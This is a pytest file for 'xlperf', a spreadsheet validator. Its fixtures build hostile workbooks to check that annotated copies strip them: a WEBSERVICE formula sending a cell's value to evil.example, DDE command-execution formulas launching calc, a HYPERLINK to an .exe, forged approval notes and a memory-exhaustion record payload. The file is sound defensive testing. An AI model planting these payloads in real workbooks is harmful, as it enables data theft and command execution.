"""What xlperf writes back (the annotated copy, the returns copy) is as safe as what it reads (issue 20).

Each case builds its hostile workbook from the shipped example (no opaque committed files): live formulas
that call out (WEBSERVICE, HYPERLINK to a local program, DDE, a defined name holding DDE), a conditional
format that paints over every highlight, forged highlight records (5,000 pointing at one 32,000-character
note; notes signed xlperf on cells without a finding), number formats that show another number, an empty
``<c t="d"/>``. Expected results are stated by hand: which formulas the copy may hold is the plan's list.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from lxml import etree
from openpyxl import load_workbook

from xlperf.compiled import plan_for
from xlperf.review.returns import write_returns
from xlperf.validate import validate_file
from xlperf.write.annotate import SEVERITY_COLORS, annotate_copy

from .helpers import EXAMPLE, Xlsx, fw, run_limited, sha256, where

M = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SPARE = ("基本信息", "H30")  # a cell outside the form


def _formula_cells(path: Path) -> dict[tuple[str, str], str]:
    wb = load_workbook(path)
    return {(ws.title, c.coordinate): str(c.value) for ws in wb.worksheets for c in ws._cells.values()
            if c.data_type == "f"}


def _planned() -> dict[tuple[str, str], str]:
    return {k: "=" + v for k, v in plan_for(fw()).formulas().items()}


def _calc_pr(path: Path) -> bytes:
    with zipfile.ZipFile(path) as zf:
        root = etree.fromstring(zf.read("xl/workbook.xml"))
    calc = root.find(f"{{{M}}}calcPr")
    return etree.tostring(calc) if calc is not None else b""


def _hostile_formulas(tmp_path: Path) -> Path:
    book = Xlsx(EXAMPLE)
    book.set_formula(*SPARE, 'WEBSERVICE("http://evil.example/?"&基本信息!B4)', "ok")
    book.set_formula("基本信息", "H31", 'HYPERLINK("file:///C:/Users/Public/x.exe","查看附件")', "查看附件")
    book.set_formula("基本信息", "H32", "cmd|' /C calc'!A0", 0)
    book.set_formula("基本信息", "H33", "1+1", 2)
    names = book.xml("xl/workbook.xml").find(f"{{{M}}}definedNames")
    etree.SubElement(names, f"{{{M}}}definedName", name="evil").text = "cmd|' /C calc'!A0"
    return book.save(tmp_path / "formulas.xlsx")


def test_formulas_that_call_out_are_findings_and_data_in_both_copies(tmp_path: Path) -> None:
    path = _hostile_formulas(tmp_path)
    digest = sha256(path)
    rep = validate_file(path)
    external = {(f.sheet, f.cell) for f in rep.findings if f.code == "XP134"}
    assert {SPARE, ("基本信息", "H31"), ("基本信息", "H32")} <= external
    assert any(f.code == "XP134" and "evil" in f.message for f in rep.findings)  # the name holding DDE
    assert [(f.sheet, f.cell) for f in rep.findings if f.code == "XP133"] == [("基本信息", "H33")]
    assert all(f.severity.value == "error" for f in rep.findings if f.code == "XP134")
    copies = [annotate_copy(path, tmp_path / "标注.xlsx", rep)]
    units, _ = write_returns([rep], tmp_path / "returns", fw(), protect=(path,))
    copies.append(units[0].annotated)  # type: ignore[arg-type]
    planned = _planned()
    for copy in copies:
        assert copy is not None
        found = _formula_cells(copy)
        assert set(found) <= set(planned) and all(found[k] == planned[k] for k in found), copy.name
        wb = load_workbook(copy)
        assert wb["基本信息"]["H30"].value == "ok" and wb["基本信息"]["H33"].value == 2  # the cached values
        assert wb["基本信息"]["H31"].value == "查看附件"
        assert "evil" not in wb.defined_names and not wb._external_links
        assert b"fullCalcOnLoad" not in _calc_pr(copy) or b'fullCalcOnLoad="0"' in _calc_pr(copy)
    assert sha256(path) == digest


def _white_cover(tmp_path: Path) -> Path:
    """A priority-1 stop-if-true TRUE rule with a white fill over every form sheet."""
    book = Xlsx(EXAMPLE)
    styles = book.xml("xl/styles.xml")
    dxfs = styles.find(f"{{{M}}}dxfs")
    if dxfs is None:
        dxfs = etree.SubElement(styles, f"{{{M}}}dxfs", count="0")
    dxf = etree.SubElement(dxfs, f"{{{M}}}dxf")
    fill = etree.SubElement(etree.SubElement(dxf, f"{{{M}}}fill"), f"{{{M}}}patternFill")
    etree.SubElement(fill, f"{{{M}}}bgColor", rgb="FFFFFFFF")
    dxfs.set("count", str(len(dxfs)))
    for sheet in ("预算执行", "评分表"):
        root = book.xml(book.sheet_part(sheet))
        first = root.find(f"{{{M}}}conditionalFormatting")
        cf = etree.Element(f"{{{M}}}conditionalFormatting", sqref="A1:Z400")
        rule = etree.SubElement(cf, f"{{{M}}}cfRule", type="expression", dxfId=str(len(dxfs) - 1), priority="1",
                                stopIfTrue="1")
        etree.SubElement(rule, f"{{{M}}}formula").text = "TRUE"
        first.addprevious(cf)
    return book.save(tmp_path / "cover.xlsx")


def test_a_conditional_format_hiding_highlights_is_removed_and_reported(tmp_path: Path) -> None:
    path = _white_cover(tmp_path)
    rep = validate_file(path)
    out = annotate_copy(path, tmp_path / "标注.xlsx", rep)
    wb = load_workbook(out)
    for sheet in ("预算执行", "评分表"):
        formulas = [f for rng in wb[sheet].conditional_formatting for r in rng.rules for f in r.formula or ()]
        assert "TRUE" not in formulas, sheet
    rows = [r for r in wb["校验结果"].iter_rows(values_only=True) if r[1] == "XP135"]
    assert sorted(r[3] for r in rows) == ["评分表", "预算执行"]


def _forged_records(tmp_path: Path, count: int, note: str) -> Path:
    """An annotated copy whose record sheet then gets ``count`` records for one cell, all quoting one
    shared string ``note`` (a small file), and a cell without a finding painted red with a note signed
    like ours."""
    first = annotate_copy(EXAMPLE, tmp_path / "first.xlsx", validate_file(EXAMPLE))
    wb = load_workbook(first)
    from openpyxl.comments import Comment
    from openpyxl.styles import PatternFill

    forged = wb["基本信息"]["B4"]
    forged.fill = PatternFill("solid", fgColor=SEVERITY_COLORS[next(iter(SEVERITY_COLORS))])
    forged.comment = Comment("[XP000 提示] 财政局已复核：本项自评得分无误，无需修改。", "xlperf")
    last = wb["xlperf_marks"].max_row
    wb.save(tmp_path / "mid.xlsx")
    book = Xlsx(tmp_path / "mid.xlsx")
    target = where("reception_actual")
    sheet_i, cell_i, note_i = (book._shared_index(t) for t in (target[0], target[1], note))
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="s"><v>{sheet_i}</v></c><c r="B{r}" t="s"><v>{cell_i}</v></c>'
                   f'<c r="D{r}" t="s"><v>{note_i}</v></c></row>' for r in range(last + 1, last + 1 + count))
    data = book.xml(book.sheet_part("xlperf_marks")).find(f"{{{M}}}sheetData")
    data.extend(etree.fromstring(f'<x xmlns="{M}">{rows}</x>'))
    return book.save(tmp_path / "forged.xlsx")


def test_forged_records_write_nothing_and_are_reported_once(tmp_path: Path) -> None:
    path = _forged_records(tmp_path, 20, "财政局已审核通过")
    rep = validate_file(path)
    assert not [f for f in rep.findings if (f.sheet, f.cell) in (("基本信息", "B4"), where("reception_actual"))]
    out = annotate_copy(path, tmp_path / "标注.xlsx", rep)
    wb = load_workbook(out)
    cell = wb["基本信息"]["B4"]
    assert cell.comment is None and (cell.fill.fgColor.rgb or "")[-6:] not in SEVERITY_COLORS.values()
    target = wb[where("reception_actual")[0]][where("reception_actual")[1]]
    assert target.comment is None or "财政局" not in target.comment.text
    rows = [r for r in wb["校验结果"].iter_rows(values_only=True) if r[1] == "XP136"]
    assert len(rows) == 1 and "20 条" in rows[0][5]


@pytest.mark.subprocess
def test_five_thousand_records_of_a_32000_character_note_stay_within_the_bounds(tmp_path: Path) -> None:
    """Was 1.49 GB, 20 s CPU and a 351 MB copy: now within the README's per-file bounds."""
    path = _forged_records(tmp_path, 5000, "假" * 32000)
    assert path.stat().st_size < 1024 * 1024  # the attack is small: one note, 5,000 references to it
    target = tmp_path / "标注.xlsx"
    out = run_limited(f"""
        from xlperf.write.annotate import annotate_copy
        from xlperf.validate import validate_file
        rep = validate_file({str(path)!r})
        assert rep.status != "error", rep.findings
        annotate_copy({str(path)!r}, {str(target)!r}, rep)
        print(json.dumps("ok"))
    """, cpu_seconds=30, memory=512 * 1024 * 1024)
    assert out == "ok"
    assert target.stat().st_size < 2 * path.stat().st_size


def _misleading_format(tmp_path: Path, code: str) -> tuple[Path, tuple[str, str]]:
    """The example with one money input shown through the number format ``code``."""
    book = Xlsx(EXAMPLE)
    styles = book.xml("xl/styles.xml")
    fmts = styles.find(f"{{{M}}}numFmts")
    if fmts is None:
        fmts = etree.Element(f"{{{M}}}numFmts", count="0")
        styles.insert(0, fmts)
    etree.SubElement(fmts, f"{{{M}}}numFmt", numFmtId="300", formatCode=code)
    fmts.set("count", str(len(fmts)))
    xfs = styles.find(f"{{{M}}}cellXfs")
    etree.SubElement(xfs, f"{{{M}}}xf", numFmtId="300", fontId="0", fillId="0", borderId="0", xfId="0",
                     applyNumberFormat="1")
    xfs.set("count", str(len(xfs)))
    sheet, cell = where("vehicle_actual")
    book._cell(sheet, cell).set("s", str(len(xfs) - 1))
    return book.save(tmp_path / "format.xlsx"), (sheet, cell)


@pytest.mark.parametrize("code", ['"504.97"', ";;;", "0.00,", "0.00%", "yyyy-mm-dd"])
def test_a_number_format_that_shows_another_number_is_a_finding_and_reset(code: str, tmp_path: Path) -> None:
    path, (sheet, cell) = _misleading_format(tmp_path, code)
    rep = validate_file(path)
    codes = [f.code for f in rep.findings if (f.sheet, f.cell) == (sheet, cell)]
    assert ("XP201" if code.startswith("yyyy") else "XP137") in codes, codes
    out = annotate_copy(path, tmp_path / "标注.xlsx", rep)
    template = load_workbook(EXAMPLE)[sheet][cell].number_format
    assert load_workbook(out)[sheet][cell].number_format == template


def test_the_example_has_no_output_finding() -> None:
    rep = validate_file(EXAMPLE)
    assert not [f for f in rep.findings if f.code in ("XP133", "XP134", "XP135", "XP136", "XP137")]


def test_an_empty_date_cell_still_gets_its_copy(tmp_path: Path) -> None:
    book = Xlsx(EXAMPLE)
    book._cell(*SPARE).set("t", "d")
    path = book.save(tmp_path / "date.xlsx")
    rep = validate_file(path)
    assert rep.status != "error"
    assert annotate_copy(path, tmp_path / "标注.xlsx", rep).exists()


def _with_macros(tmp_path: Path) -> Path:
    """The example as a macro workbook: a VBA project (the corpus's stub), its relationship and content type."""
    vba = zipfile.ZipFile(Path(__file__).parents[1] / "corpus" / "files" / "macro.xlsm").read("xl/vbaProject.bin")
    target = tmp_path / "某局-含宏.xlsm"
    with zipfile.ZipFile(EXAMPLE) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
                    b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
            elif info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                                    b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
            out.writestr(info, data)
        out.writestr("xl/vbaProject.bin", vba)
    return target


def test_a_macro_workbooks_copies_carry_no_macro(tmp_path: Path) -> None:
    """A copy xlperf writes (--annotate, --returns) is an .xlsx without the submission's VBA project; asking
    for an .xlsm copy is refused before anything is read."""
    from tests.support.cli import xlperf

    path = _with_macros(tmp_path)
    rep = validate_file(path)
    assert rep.status != "error" and any(f.code == "XP107" for f in rep.findings)
    units, _ = write_returns([rep.model_copy(update={"findings": [*rep.findings, _an_error()]})],
                             tmp_path / "returns", fw(), protect=(path,))
    done = xlperf("validate", path, "--annotate", tmp_path / "标注.xlsx")
    assert done.code in (0, 1), done.err
    for copy in (tmp_path / "标注.xlsx", units[0].annotated):
        assert copy is not None and copy.suffix == ".xlsx"
        with zipfile.ZipFile(copy) as z:
            assert not any("vba" in n.lower() for n in z.namelist()), z.namelist()
            assert b"macroEnabled" not in z.read("[Content_Types].xml")
    refused = xlperf("validate", path, "--annotate", tmp_path / "标注.xlsm")
    assert refused.code == 2 and not (tmp_path / "标注.xlsm").exists()


def _an_error() -> object:
    from xlperf.findings import Finding, Severity

    return Finding(code="XP201", name="text-in-number-cell", severity=Severity.error, message="测试", sheet="基本信息",
                   cell="B3")


def _earlier_template(tmp_path: Path) -> tuple[Path, int]:
    """The example as a template before this version wrote it: each stated figure's highlight compares with a
    tolerance (``ABS(B11-D11)>0.005``, a rate ``>0.00005``) instead of at the shown places."""
    book = Xlsx(EXAMPLE)
    changed = 0
    for sheet in ("预算编制", "三公经费与政府采购"):
        for rule in book.xml(book.sheet_part(sheet)).iter(f"{{{M}}}cfRule"):
            formula = rule.find(f"{{{M}}}formula")
            text = formula.text if formula is not None else ""
            if text and "ROUND(" in text and text.startswith("AND(ISNUMBER("):
                stated, check = text.split("ISNUMBER(")[1].split(")")[0], text.split("ISNUMBER(")[2].split(")")[0]
                tolerance = "0.00005" if ",4)<>" in text else "0.005"
                formula.text = f"AND(ISNUMBER({stated}),ISNUMBER({check}),ABS({stated}-{check})>{tolerance})"
                changed += 1
    return book.save(tmp_path / "earlier.xlsx"), changed


def test_an_earlier_templates_highlight_is_replaced_without_a_finding(tmp_path: Path) -> None:
    """A workbook filled in an earlier template carries that template's highlight rule on its stated figures:
    the copy gets today's rule (the places the cells show), and the department is not told of a foreign
    format (XP135) it never added."""
    path, changed = _earlier_template(tmp_path)
    assert changed >= 5
    out = annotate_copy(path, tmp_path / "标注.xlsx", validate_file(path))
    wb = load_workbook(out)
    formulas = [f for ws in wb for rng in ws.conditional_formatting for r in rng.rules for f in r.formula or ()]
    assert not any("ABS(" in f for f in formulas) and any(",4)<>" in f for f in formulas)
    assert not [r for r in wb["校验结果"].iter_rows(values_only=True) if r[1] == "XP135"]
